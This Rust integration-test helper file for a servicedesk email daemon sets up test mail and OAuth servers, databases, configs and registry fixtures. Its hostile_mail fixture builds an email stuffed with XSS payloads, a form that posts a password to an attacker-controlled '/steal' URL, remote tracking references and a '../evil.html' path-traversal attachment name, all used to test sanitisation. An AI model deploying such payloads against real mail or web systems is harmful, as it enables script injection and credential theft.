//! Shared helpers for the integration tests: private mail servers
//! (`scripts/mailservers.sh`), IMAP helpers, the captured SMTP output, a
//! throw-away database (SQLite or PostgreSQL), configurations and the registry.
//!
//! Every test makes its own servers and its own database, so tests can run in
//! parallel. Nothing here skips a test silently: when a server is missing the
//! helpers panic and say how to get it (`scripts/test.sh`).
#![allow(dead_code)]

/// Runs one async test body on both backends: `name::sqlite`,
/// `name::postgres` (on two worker threads, so bodies can race tasks).
#[allow(unused_macros)]
macro_rules! on_both_backends {
    ($($name:ident),* $(,)?) => {$(
        mod $name {
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                super::$name(super::Backend::Sqlite).await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                super::$name(super::Backend::Postgres).await;
            }
        }
    )*};
}

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use servicedesk::config::Config;
use servicedesk::registry;
use servicedesk::store::{ImportSummary, Store};
use tempfile::TempDir;
use tokio::net::TcpStream;

/// The support mailbox's login.
pub const SUPPORT_USER: &str = "support@example.test";
pub const SUPPORT_PASS: &str = "support-pass";

fn script() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/mailservers.sh")
}

/// A short temporary directory under /tmp (Dovecot and socket paths stay short).
pub fn short_tempdir() -> TempDir {
    tempfile::Builder::new()
        .prefix("sd")
        .tempdir_in("/tmp")
        .expect("cannot create a temporary directory under /tmp")
}

// ------------------------------------------------------------ mail servers --

/// A private Dovecot (IMAP/IMAPS) and SMTP capture server, stopped on drop.
pub struct MailServers {
    dir: TempDir,
    pub imap_port: u16,
    pub imaps_port: u16,
    pub smtp_port: u16,
    /// SMTP with implicit TLS (submissions style).
    pub smtps_port: u16,
}

impl MailServers {
    /// Starts both servers on free ports in a new temporary directory.
    ///
    /// Panics (never skips) when they cannot be started.
    pub fn start() -> MailServers {
        Self::start_with_capability(None)
    }

    /// Like [`MailServers::start`]; `Some(caps)` makes Dovecot announce only
    /// these capabilities after login (e.g. no MOVE and no IDLE).
    pub fn start_with_capability(capability: Option<&str>) -> MailServers {
        Self::start_with(capability, None)
    }

    /// Like [`MailServers::start`], also taking OAuth2 bearer tokens
    /// (Dovecot's oauth2 passdb, the SMTP sink's AUTH XOAUTH2), checked at
    /// `oauth`'s introspection endpoint. Passwords keep working.
    pub fn start_with_oauth(oauth: &OAuthServer) -> MailServers {
        Self::start_with(None, Some(&oauth.url("/introspect")))
    }

    fn start_with(capability: Option<&str>, introspect: Option<&str>) -> MailServers {
        let dir = short_tempdir();
        let mut cmd = Command::new("bash");
        cmd.arg(script())
            .arg("start")
            .arg(dir.path())
            .env_remove("IMAP_PORT")
            .env_remove("IMAPS_PORT")
            .env_remove("SMTP_PORT")
            .env_remove("SMTPS_PORT")
            .env_remove("DOVECOT_IMAP_CAPABILITY")
            .env_remove("OAUTH_INTROSPECT_URL");
        if let Some(caps) = capability {
            cmd.env("DOVECOT_IMAP_CAPABILITY", caps);
        }
        if let Some(url) = introspect {
            cmd.env("OAUTH_INTROSPECT_URL", url);
        }
        let out = cmd
            .output()
            .expect("cannot run bash scripts/mailservers.sh");
        if !out.status.success() {
            // Stop whatever half-started before the directory disappears.
            let _ = Command::new("bash")
                .arg(script())
                .arg("stop")
                .arg(dir.path())
                .output();
            panic!(
                "the test mail servers did not start ({}).\n\
                 Run the tests through scripts/test.sh, which installs Dovecot and aiosmtpd \
                 (or run `scripts/mailservers.sh install` as root).\n--- stdout\n{}\n--- stderr\n{}",
                out.status,
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
        }
        let env = std::fs::read_to_string(dir.path().join("ports.env"))
            .expect("mailservers.sh wrote no ports.env");
        let port = |key: &str| -> u16 {
            env.lines()
                .find_map(|l| l.strip_prefix(&format!("{key}=")))
                .and_then(|v| v.trim().parse().ok())
                .unwrap_or_else(|| panic!("ports.env has no {key}: {env}"))
        };
        MailServers {
            imap_port: port("IMAP_PORT"),
            imaps_port: port("IMAPS_PORT"),
            smtp_port: port("SMTP_PORT"),
            smtps_port: port("SMTPS_PORT"),
            dir,
        }
    }

    pub fn dir(&self) -> &Path {
        self.dir.path()
    }

    /// The throw-away CA that signed the servers' certificate.
    pub fn ca_file(&self) -> PathBuf {
        self.dir().join("tls/ca.pem")
    }

    /// Where the SMTP server saves every message it accepts.
    pub fn smtp_out(&self) -> PathBuf {
        self.dir().join("smtp-out")
    }

    /// `Some("tempfail")` / `Some("permfail")` makes the SMTP server answer
    /// 451 / 554 to every message; `None` makes it accept again.
    pub fn set_smtp_mode(&self, mode: Option<&str>) {
        let file = self.dir().join("smtp-mode");
        match mode {
            Some(m) => std::fs::write(&file, m).expect("cannot write smtp-mode"),
            None => {
                let _ = std::fs::remove_file(&file);
            }
        }
    }

    async fn session(&self) -> async_imap::Session<TcpStream> {
        let tcp = TcpStream::connect(("127.0.0.1", self.imap_port))
            .await
            .expect("cannot connect to the test IMAP server");
        let mut client = async_imap::Client::new(tcp);
        client
            .read_response()
            .await
            .expect("IMAP greeting")
            .expect("IMAP server closed before its greeting");
        client
            .login(SUPPORT_USER, SUPPORT_PASS)
            .await
            .map_err(|(e, _)| e)
            .expect("IMAP login of the test helper")
    }

    /// APPENDs one raw message (bare LF line ends become CRLF) to `mailbox`.
    pub async fn append(&self, mailbox: &str, raw: &[u8]) {
        let mut s = self.session().await;
        s.append(mailbox, None, None, crlf(raw))
            .await
            .unwrap_or_else(|e| panic!("IMAP APPEND to {mailbox}: {e}"));
        let _ = s.logout().await;
    }

    /// How many messages `mailbox` holds; 0 when it does not exist.
    pub async fn count(&self, mailbox: &str) -> u32 {
        let mut s = self.session().await;
        let n = match s.status(mailbox, "(MESSAGES)").await {
            Ok(m) => m.exists,
            Err(async_imap::error::Error::No(_)) => 0,
            Err(e) => panic!("IMAP STATUS {mailbox}: {e}"),
        };
        let _ = s.logout().await;
        n
    }

    /// The UIDVALIDITY of `mailbox`.
    pub async fn uid_validity(&self, mailbox: &str) -> u32 {
        let mut s = self.session().await;
        let m = s
            .status(mailbox, "(UIDVALIDITY)")
            .await
            .unwrap_or_else(|e| panic!("IMAP STATUS {mailbox}: {e}"));
        let _ = s.logout().await;
        m.uid_validity.expect("STATUS gave no UIDVALIDITY")
    }

    /// Creates `mailbox` (it must not exist).
    pub async fn create(&self, mailbox: &str) {
        let mut s = self.session().await;
        s.create(mailbox)
            .await
            .unwrap_or_else(|e| panic!("IMAP CREATE {mailbox}: {e}"));
        let _ = s.logout().await;
    }

    /// Deletes `mailbox` and creates it again: it gets a new UIDVALIDITY.
    pub async fn recreate(&self, mailbox: &str) {
        let mut s = self.session().await;
        s.delete(mailbox)
            .await
            .unwrap_or_else(|e| panic!("IMAP DELETE {mailbox}: {e}"));
        s.create(mailbox)
            .await
            .unwrap_or_else(|e| panic!("IMAP CREATE {mailbox}: {e}"));
        let _ = s.logout().await;
    }

    /// Every message the SMTP server accepted, in arrival order.
    pub fn sent(&self) -> Vec<Sent> {
        let dir = self.smtp_out();
        let mut numbers: Vec<u32> = std::fs::read_dir(&dir)
            .map(|rd| {
                rd.filter_map(|e| {
                    let name = e.ok()?.file_name().into_string().ok()?;
                    name.strip_suffix(".eml")?.parse().ok()
                })
                .collect()
            })
            .unwrap_or_default();
        numbers.sort_unstable();
        numbers.into_iter().map(|n| Sent::read(&dir, n)).collect()
    }

    /// Waits (bounded) until at least `n` messages were accepted; returns them all.
    pub async fn wait_sent(&self, n: usize, limit: Duration) -> Vec<Sent> {
        let deadline = tokio::time::Instant::now() + limit;
        loop {
            let sent = self.sent();
            if sent.len() >= n || tokio::time::Instant::now() >= deadline {
                return sent;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

impl Drop for MailServers {
    fn drop(&mut self) {
        match Command::new("bash")
            .arg(script())
            .arg("stop")
            .arg(self.dir())
            .output()
        {
            Ok(out) if out.status.success() => {}
            Ok(out) => eprintln!(
                "mailservers.sh stop {} failed: {}",
                self.dir().display(),
                String::from_utf8_lossy(&out.stderr)
            ),
            Err(e) => eprintln!("cannot run mailservers.sh stop: {e}"),
        }
    }
}

// ------------------------------------------------------------ OAuth2 server --

/// The OAuth2 client the test token server knows.
pub const OAUTH_CLIENT_ID: &str = "servicedesk-tests";
pub const OAUTH_CLIENT_SECRET: &str = "client-secret-0123456789";
/// The OAuth2 client that signs in with a certificate.
pub const OAUTH_CERT_CLIENT_ID: &str = "servicedesk-tests-cert";

/// `scripts/oauth_server.py`: token, device authorization and introspection
/// endpoints on loopback, stopped on drop.
pub struct OAuthServer {
    child: Child,
    _dir: TempDir,
    pub port: u16,
}

impl OAuthServer {
    /// Starts the server; its tokens live `lifetime_secs`, client
    /// credentials are valid for the support mailbox.
    pub fn start(lifetime_secs: u64) -> OAuthServer {
        Self::start_with_cert(lifetime_secs, None)
    }

    /// Like [`OAuthServer::start`]; the client [`OAUTH_CERT_CLIENT_ID`]
    /// authenticates with a client assertion signed by the key of `cert`.
    pub fn start_with_cert(lifetime_secs: u64, cert: Option<&Path>) -> OAuthServer {
        let dir = short_tempdir();
        let port_file = dir.path().join("port");
        let log = std::fs::File::create(dir.path().join("oauth.log")).expect("oauth log");
        let mut child = Command::new("/usr/bin/python3")
            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/oauth_server.py"))
            .arg("--port-file")
            .arg(&port_file)
            .arg("--lifetime")
            .arg(lifetime_secs.to_string())
            .arg("--client")
            .arg(format!("{OAUTH_CLIENT_ID}:{OAUTH_CLIENT_SECRET}"))
            .arg("--app-user")
            .arg(SUPPORT_USER)
            .args(cert.map(|c| format!("--client-cert={OAUTH_CERT_CLIENT_ID}:{}", c.display())))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("cannot start scripts/oauth_server.py");
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        let port = loop {
            if let Some(port) = std::fs::read_to_string(&port_file)
                .ok()
                .and_then(|p| p.trim().parse().ok())
            {
                break port;
            }
            if let Ok(Some(status)) = child.try_wait() {
                panic!(
                    "oauth_server.py exited ({status}): {}",
                    std::fs::read_to_string(dir.path().join("oauth.log")).unwrap_or_default()
                );
            }
            assert!(
                std::time::Instant::now() < deadline,
                "oauth_server.py did not start"
            );
            std::thread::sleep(Duration::from_millis(20));
        };
        OAuthServer {
            child,
            _dir: dir,
            port,
        }
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    /// POSTs a control request (`approve`, `deny`, `revoke`, `lifetime`).
    pub async fn control(&self, what: &str, form: &[(&str, &str)]) {
        let body: Vec<String> = form
            .iter()
            .map(|(k, v)| {
                format!(
                    "{k}={}",
                    v.replace('%', "%25")
                        .replace('&', "%26")
                        .replace('+', "%2B")
                )
            })
            .collect();
        let answer = reqwest::Client::new()
            .post(self.url(&format!("/control/{what}")))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(body.join("&"))
            .send()
            .await
            .expect("oauth control request");
        assert!(
            answer.status().is_success(),
            "control/{what}: {}",
            answer.status()
        );
    }

    /// The server's counts (e.g. `refresh_token:invalid_grant`) and tokens.
    pub async fn state(&self) -> serde_json::Value {
        reqwest::get(self.url("/control/state"))
            .await
            .expect("oauth state")
            .json()
            .await
            .expect("oauth state JSON")
    }

    /// One of [`OAuthServer::state`]'s counts.
    pub async fn count(&self, key: &str) -> u64 {
        self.state().await["counts"][key].as_u64().unwrap_or(0)
    }
}

impl Drop for OAuthServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Bare LF line ends to CRLF, as IMAP and SMTP want them.
pub fn crlf(raw: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(raw.len() + raw.len() / 20);
    let mut prev = 0u8;
    for &b in raw {
        if b == b'\n' && prev != b'\r' {
            out.push(b'\r');
        }
        out.push(b);
        prev = b;
    }
    out
}

/// One message the SMTP server accepted.
#[derive(Debug, Clone)]
pub struct Sent {
    /// Its number in smtp-out.
    pub n: u32,
    /// The envelope: MAIL FROM and RCPT TO.
    pub mail_from: String,
    pub rcpt: Vec<String>,
    /// True when the message came over TLS.
    pub tls: bool,
    /// The bare address of the To header.
    pub to: String,
    /// Decoded subject.
    pub subject: String,
    pub message_id: Option<String>,
    pub in_reply_to: Option<String>,
    pub references: Option<String>,
    pub auto_submitted: Option<String>,
    pub content_language: Option<String>,
    pub notice: Option<String>,
    pub body: String,
}

impl Sent {
    fn read(dir: &Path, n: u32) -> Sent {
        let raw = std::fs::read(dir.join(format!("{n}.eml")))
            .unwrap_or_else(|e| panic!("smtp-out/{n}.eml: {e}"));
        let json: serde_json::Value = serde_json::from_slice(
            &std::fs::read(dir.join(format!("{n}.json")))
                .unwrap_or_else(|e| panic!("smtp-out/{n}.json: {e}")),
        )
        .unwrap_or_else(|e| panic!("smtp-out/{n}.json: {e}"));
        let msg = mail_parser::MessageParser::default()
            .parse(&raw)
            .unwrap_or_else(|| panic!("smtp-out/{n}.eml does not parse"));
        let header = |name: &str| -> Option<String> {
            msg.header_raw(name)
                .map(|v| v.split_whitespace().collect::<Vec<_>>().join(" "))
        };
        Sent {
            n,
            mail_from: json["mail_from"].as_str().unwrap_or_default().to_string(),
            rcpt: json["rcpt_tos"]
                .as_array()
                .map(|a| {
                    a.iter()
                        .filter_map(|v| v.as_str().map(str::to_string))
                        .collect()
                })
                .unwrap_or_default(),
            tls: json["tls"].as_bool().unwrap_or(false),
            to: msg
                .to()
                .and_then(|a| a.first())
                .and_then(|a| a.address.as_deref())
                .unwrap_or_default()
                .to_string(),
            subject: msg.subject().unwrap_or_default().to_string(),
            message_id: msg.message_id().map(str::to_string),
            in_reply_to: header("In-Reply-To"),
            references: header("References"),
            auto_submitted: header("Auto-Submitted"),
            content_language: header("Content-Language"),
            notice: header("X-Servicedesk-Notice"),
            body: msg.body_text(0).map(|t| t.into_owned()).unwrap_or_default(),
        }
    }

    /// True when this reply answers the message with this Message-ID (no brackets).
    pub fn answers(&self, message_id: &str) -> bool {
        self.in_reply_to.as_deref() == Some(&format!("<{message_id}>"))
    }
}

// ---------------------------------------------------------------- database --

/// The PostgreSQL server the tests create their databases on.
pub fn pg_admin_url() -> String {
    std::env::var("SERVICEDESK_TEST_PG_URL")
        .ok()
        .filter(|u| !u.trim().is_empty())
        .unwrap_or_else(|| "postgres://root@127.0.0.1:5432/postgres".to_string())
}

/// `url` with its database name replaced by `name`.
fn with_database(url: &str, name: &str) -> String {
    let (base, query) = match url.split_once('?') {
        Some((b, q)) => (b, format!("?{q}")),
        None => (url, String::new()),
    };
    let after_scheme = base.find("://").map(|i| i + 3).unwrap_or(0);
    let prefix = match base[after_scheme..].find('/') {
        Some(i) => &base[..after_scheme + i],
        None => base,
    };
    format!("{prefix}/{name}{query}")
}

/// A database for one test, removed when dropped.
pub enum Db {
    Sqlite {
        url: String,
    },
    Postgres {
        url: String,
        name: String,
        admin_url: String,
    },
}

impl Db {
    /// `sqlite://DIR/test.db`; the file goes away with `dir`.
    pub fn sqlite(dir: &Path) -> Db {
        Db::Sqlite {
            url: format!("sqlite://{}", dir.join("test.db").display()),
        }
    }

    /// A fresh database `sd_test_<random>` on the server of
    /// `SERVICEDESK_TEST_PG_URL`; dropped (WITH (FORCE)) when this is dropped.
    pub async fn postgres() -> Db {
        use sqlx::Connection;
        static SEQ: AtomicU32 = AtomicU32::new(0);
        let admin_url = pg_admin_url();
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.subsec_nanos())
            .unwrap_or(0);
        let name = format!(
            "sd_test_{}_{nanos}_{}",
            std::process::id(),
            SEQ.fetch_add(1, Ordering::Relaxed)
        );
        let mut conn = match tokio::time::timeout(
            Duration::from_secs(15),
            sqlx::PgConnection::connect(&admin_url),
        )
        .await
        {
            Ok(Ok(c)) => c,
            Ok(Err(e)) => panic!(
                "PostgreSQL at {admin_url} is unreachable ({e}).\n\
                 Run the tests through scripts/test.sh (it starts PostgreSQL and sets \
                 SERVICEDESK_TEST_PG_URL), or point SERVICEDESK_TEST_PG_URL at a server \
                 where this user may create databases."
            ),
            Err(_) => panic!(
                "PostgreSQL at {admin_url} did not answer within 15 s.\n\
                 Run the tests through scripts/test.sh (it starts PostgreSQL and sets \
                 SERVICEDESK_TEST_PG_URL)."
            ),
        };
        sqlx::query(&format!("CREATE DATABASE {name}"))
            .execute(&mut conn)
            .await
            .unwrap_or_else(|e| panic!("CREATE DATABASE {name} on {admin_url}: {e}"));
        let _ = conn.close().await;
        Db::Postgres {
            url: with_database(&admin_url, &name),
            name,
            admin_url,
        }
    }

    pub fn url(&self) -> &str {
        match self {
            Db::Sqlite { url } | Db::Postgres { url, .. } => url,
        }
    }

    /// Connects the store (and migrates the schema).
    pub async fn store(&self) -> Store {
        Store::connect(self.url())
            .await
            .unwrap_or_else(|e| panic!("Store::connect({}): {e}", self.url()))
    }
}

impl Drop for Db {
    fn drop(&mut self) {
        let Db::Postgres {
            name, admin_url, ..
        } = self
        else {
            return;
        };
        let (name, admin_url) = (name.clone(), admin_url.clone());
        // A runtime of its own on a thread of its own: drop may run inside
        // the test's runtime, which must not be blocked on.
        let result = std::thread::spawn(move || -> Result<(), String> {
            use sqlx::Connection;
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .map_err(|e| e.to_string())?;
            rt.block_on(async {
                let mut conn = sqlx::PgConnection::connect(&admin_url)
                    .await
                    .map_err(|e| e.to_string())?;
                sqlx::query(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
                    .execute(&mut conn)
                    .await
                    .map_err(|e| format!("DROP DATABASE {name}: {e}"))?;
                let _ = conn.close().await;
                Ok(())
            })
        })
        .join();
        match result {
            Ok(Ok(())) => {}
            Ok(Err(e)) => eprintln!("could not drop the test database: {e}"),
            Err(_) => eprintln!("dropping the test database panicked"),
        }
    }
}

/// Which backend a shared test body runs on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    Sqlite,
    Postgres,
}

impl Backend {
    /// A new database of this kind; SQLite files go into `dir`.
    pub async fn db(self, dir: &Path) -> Db {
        match self {
            Backend::Sqlite => Db::sqlite(dir),
            Backend::Postgres => Db::postgres().await,
        }
    }
}

// ------------------------------------------------------------------ config --

/// How the daemon talks to the servers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tls {
    Implicit,
    Starttls,
    None,
}

/// Knobs of [`config_with`]; [`Default`] is what most tests want.
#[derive(Debug, Clone)]
pub struct Options {
    pub imap_tls: Tls,
    pub smtp_tls: Tls,
    pub imap_password: String,
    pub mailbox: String,
    pub once_wait_secs: u64,
    pub retry_base_secs: u64,
    /// `[daemon] poll_interval_secs`: how often to look without IDLE.
    pub poll_interval_secs: u64,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            imap_tls: Tls::Implicit,
            smtp_tls: Tls::None,
            imap_password: SUPPORT_PASS.to_string(),
            mailbox: "INBOX".to_string(),
            once_wait_secs: 20,
            retry_base_secs: 1,
            poll_interval_secs: 60,
        }
    }
}

/// TOML string escaping for paths and passwords.
fn toml_str(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

/// The configuration text for these servers and this database.
pub fn config_text(servers: &MailServers, db: &Db, o: &Options) -> String {
    let ca = toml_str(&servers.ca_file().display().to_string());
    let (imap_port, imap_tls) = match o.imap_tls {
        Tls::Implicit => (servers.imaps_port, "implicit"),
        Tls::Starttls => (servers.imap_port, "starttls"),
        Tls::None => (servers.imap_port, "none"),
    };
    let (smtp_port, smtp_tls) = match o.smtp_tls {
        Tls::Implicit => (servers.smtps_port, "implicit"),
        Tls::Starttls => (servers.smtp_port, "starttls"),
        Tls::None => (servers.smtp_port, "none"),
    };
    let smtp_ca = if o.smtp_tls == Tls::None {
        String::new()
    } else {
        format!("ca_file = {ca}\n")
    };
    format!(
        r#"[database]
url = {db}

[support]
address = "support@example.test"
ticket_prefix = "CS"

[imap]
host = "127.0.0.1"
port = {imap_port}
tls = "{imap_tls}"
ca_file = {ca}
username = "{SUPPORT_USER}"
password = {password}
mailbox = {mailbox}
processed_folder = "Processed"
quarantine_folder = "Quarantine"

[smtp]
host = "127.0.0.1"
port = {smtp_port}
tls = "{smtp_tls}"
{smtp_ca}from = "Care Solutions Servicedesk <support@example.test>"
timeout_secs = 10

[outbox]
retry_base_secs = {retry}
once_wait_secs = {wait}

[daemon]
poll_interval_secs = {poll}
"#,
        db = toml_str(db.url()),
        password = toml_str(&o.imap_password),
        mailbox = toml_str(&o.mailbox),
        retry = o.retry_base_secs,
        wait = o.once_wait_secs,
        poll = o.poll_interval_secs,
    )
}

/// IMAP over implicit TLS (IMAPS, trusting the test CA), SMTP without TLS.
pub fn config(servers: &MailServers, db: &Db) -> Config {
    config_with(servers, db, &Options::default())
}

/// Like [`config`], with other knobs.
pub fn config_with(servers: &MailServers, db: &Db, o: &Options) -> Config {
    let path = servers.dir().join("servicedesk.toml");
    let text = config_text(servers, db, o);
    std::fs::write(&path, &text).expect("cannot write the test configuration");
    Config::parse(&path, &text).unwrap_or_else(|e| panic!("test configuration: {e}\n{text}"))
}

// ---------------------------------------------------------------- registry --

/// Imports a customers CSV and a persons CSV, as `customers import` and
/// `persons import` would.
pub async fn import_registry(
    store: &Store,
    customers_csv: &str,
    persons_csv: &str,
) -> (ImportSummary, ImportSummary) {
    let customers = registry::parse_customers(Path::new("customers.csv"), customers_csv)
        .unwrap_or_else(|e| panic!("{e}"));
    let c = store
        .import_customers(&customers)
        .await
        .expect("import customers");
    let known = store.registry().await.expect("read the registry");
    let persons = registry::parse_persons(Path::new("persons.csv"), persons_csv, |name| {
        known.customer(name).map(|c| c.name.clone())
    })
    .unwrap_or_else(|e| panic!("{e}"));
    let p = store
        .import_persons(&persons, false)
        .await
        .expect("import persons");
    (c, p)
}

/// The registry most tests use: an active Dutch customer with two campuses,
/// a suspended French one.
pub const CUSTOMERS_CSV: &str = "\
customer,contract_status,campuses
WZC De Linde,active,Gent;Aalst
Résidence Les Tilleuls,suspended,
";

pub const PERSONS_CSV: &str = "\
email,name,customer,campus,role,language
an.peeters@delinde.example,An Peeters,WZC De Linde,Gent,campus,nl
koen.dewitte@delinde.example,Koen De Witte,WZC De Linde,Aalst,campus,nl
els.vermeulen@delinde.example,Els Vermeulen,WZC De Linde,,general,nl
tom.claes@delinde.example,Tom Claes,WZC De Linde,,technical,nl
james.wright@delinde.example,James Wright,WZC De Linde,Gent,campus,en
sophie.lambert@lestilleuls.example,Sophie Lambert,Résidence Les Tilleuls,,general,fr
marc.dupont@lestilleuls.example,Marc Dupont,Résidence Les Tilleuls,,technical,fr
";

/// Imports [`CUSTOMERS_CSV`] and [`PERSONS_CSV`].
pub async fn import_standard_registry(store: &Store) {
    import_registry(store, CUSTOMERS_CSV, PERSONS_CSV).await;
}

/// A plain registered-person mail (Dutch incident) with this Message-ID.
pub fn simple_incident(message_id: &str) -> Vec<u8> {
    format!(
        "Message-ID: <{message_id}>\n\
Date: Tue, 04 Feb 2025 08:21:09 +0100\n\
From: Koen De Witte <koen.dewitte@delinde.example>\n\
To: Care Solutions Servicedesk <support@example.test>\n\
Subject: Foutmelding bij opslaan zorgplan\n\
MIME-Version: 1.0\n\
Content-Type: text/plain; charset=\"utf-8\"\n\
Content-Transfer-Encoding: 8bit\n\
\n\
Dag servicedesk,\n\
\n\
Bij het opslaan van een zorgplan in de module Zorgplanning krijgen we sinds gisteren\n\
de volgende foutmelding: \"Fout ZP-2041: Het zorgplan kon niet worden opgeslagen.\"\n\
Het gebeurt bij elke bewoner op campus Aalst. De wijzigingen gaan verloren.\n\
Kunnen jullie dit nakijken?\n\
\n\
Alvast bedankt,\n\
Koen De Witte\n"
    )
    .into_bytes()
}

/// A multipart mail whose HTML part tries everything; `evil` is where its
/// remote references point.
pub fn hostile_mail(message_id: &str, evil: &str) -> Vec<u8> {
    format!(
        "Message-ID: <{message_id}>\r\nFrom: Koen De Witte <koen.dewitte@delinde.example>\r\nTo: support@example.test\r\n\
Subject: Zorgplan opslaan mislukt\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n\
--b0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBij het opslaan van een zorgplan krijgen we een foutmelding.\r\n<script>window.__pwned = 1</script>\r\n\
--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><meta http-equiv=\"refresh\" content=\"0;url={evil}/refresh\"><base href=\"{evil}/\">\
<link rel=\"stylesheet\" href=\"{evil}/style.css\"><style>body{{background:url({evil}/bg.png)}}</style>\
<script>window.__pwned = 1; document.title = 'pwned'; top.__pwned = 1;</script><script src=\"{evil}/x.js\"></script></head>\
<body onload=\"window.__pwned=2; top.__pwned=2\"><p>Bij het opslaan van een <b>zorgplan</b> krijgen we een foutmelding.</p>\
<img src=\"{evil}/track.gif\" onerror=\"top.__pwned=3\" alt=\"logo\"><a href=\"javascript:top.__pwned=4\">klik</a>\
<form action=\"{evil}/steal\" method=\"post\"><input name=\"pw\" value=\"x\"><button>Send</button></form>\
<svg onload=\"top.__pwned=5\"><image href=\"{evil}/svg.png\"/></svg>\
<div style=\"background:url({evil}/div.png)\" data-x=\"1\" hx-get=\"/api/tickets\" hx-trigger=\"load\">Tabel</div>\
<iframe src=\"{evil}/frame\"></iframe><video src=\"{evil}/v.mp4\" autoplay></video></body></html>\r\n--b1--\r\n\
--b0\r\nContent-Type: text/html; name=\"../evil.html\"\r\nContent-Disposition: attachment; filename=\"../evil.html\"\r\n\r\n\
<script>top.__pwned = 7</script><img src=\"{evil}/att.gif\">\r\n--b0--\r\n"
    )
    .into_bytes()
}

// ---------------------------------------------- raw APPEND, extra config --

impl MailServers {
    /// APPENDs each message exactly as given (no line-end conversion), over
    /// as few connections as possible. One result per message: `Err` holds
    /// the server's refusal.
    pub async fn append_all_raw(
        &self,
        mailbox: &str,
        messages: &[Vec<u8>],
    ) -> Vec<Result<(), String>> {
        let mut results = Vec::with_capacity(messages.len());
        let mut session = Some(self.session().await);
        for raw in messages {
            let s = match session.as_mut() {
                Some(s) => s,
                None => session.insert(self.session().await),
            };
            match s.append(mailbox, None, None, raw).await {
                Ok(()) => results.push(Ok(())),
                Err(e) => {
                    results.push(Err(e.to_string()));
                    // The connection may be out of step after a refusal: start afresh.
                    if let Some(mut s) = session.take() {
                        let _ = s.logout().await;
                    }
                }
            }
        }
        if let Some(mut s) = session {
            let _ = s.logout().await;
        }
        results
    }
}

// ------------------------------------------------------------- counting --

/// How many tickets hold each Message-ID (without angle brackets).
pub async fn tickets_per_message(store: &Store) -> HashMap<String, usize> {
    let tickets = store
        .tickets(&servicedesk::store::TicketFilter::default())
        .await
        .expect("tickets");
    let mut on_tickets: HashMap<String, usize> = HashMap::new();
    for t in &tickets {
        for id in &t.message_ids {
            *on_tickets.entry(id.clone()).or_default() += 1;
        }
    }
    on_tickets
}

/// How many replies answer each `<Message-ID>` (by `In-Reply-To`).
pub fn replies_per_message(sent: &[Sent]) -> HashMap<String, usize> {
    let mut replies: HashMap<String, usize> = HashMap::new();
    for s in sent {
        if let Some(irt) = &s.in_reply_to {
            *replies.entry(irt.clone()).or_default() += 1;
        }
    }
    replies
}

// ------------------------------------------------------ fault injection --

impl MailServers {
    /// Runs `mailservers.sh ACTION DIR` (stop-imap, start-imap, stop-smtp,
    /// start-smtp): one server goes down or comes back on the same port.
    pub fn control(&self, action: &str) {
        let out = Command::new("bash")
            .arg(script())
            .arg(action)
            .arg(self.dir())
            .output()
            .expect("cannot run bash scripts/mailservers.sh");
        assert!(
            out.status.success(),
            "mailservers.sh {action} failed: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Like [`config_with`], with more TOML appended, e.g.
/// `"[limits]\nmax_message_bytes = 20000\n"` or a `[security]` section.
pub fn config_with_extra(servers: &MailServers, db: &Db, o: &Options, extra: &str) -> Config {
    let path = servers.dir().join("servicedesk.toml");
    let text = format!("{}\n{extra}", config_text(servers, db, o));
    std::fs::write(&path, &text).expect("cannot write the test configuration");
    Config::parse(&path, &text).unwrap_or_else(|e| panic!("test configuration: {e}\n{text}"))
}

// ------------------------------------------------------- the real binary --

/// `servicedesk run` as a child process, its log in a file.
pub struct Daemon {
    pub child: Child,
    log: PathBuf,
}

impl Daemon {
    pub fn start(config: &Path, log: PathBuf) -> Daemon {
        Daemon::start_with_env(config, log, &[])
    }

    /// Like [`Daemon::start`], with more environment variables.
    pub fn start_with_env(config: &Path, log: PathBuf, env: &[(&str, &str)]) -> Daemon {
        let file = std::fs::File::create(&log).expect("create the daemon log");
        let child = Command::new(env!("CARGO_BIN_EXE_servicedesk"))
            .arg("--config")
            .arg(config)
            .arg("run")
            .env("SERVICEDESK_LOG", "info")
            .envs(env.iter().copied())
            .stdout(Stdio::null())
            .stderr(file)
            .spawn()
            .expect("start servicedesk run");
        Daemon { child, log }
    }

    /// The log so far, without colour codes.
    pub fn log(&self) -> String {
        let raw = std::fs::read_to_string(&self.log).unwrap_or_default();
        let mut out = String::with_capacity(raw.len());
        let mut chars = raw.chars();
        while let Some(c) = chars.next() {
            if c == '\u{1b}' {
                for c in chars.by_ref() {
                    if c.is_ascii_alphabetic() {
                        break;
                    }
                }
            } else {
                out.push(c);
            }
        }
        out
    }

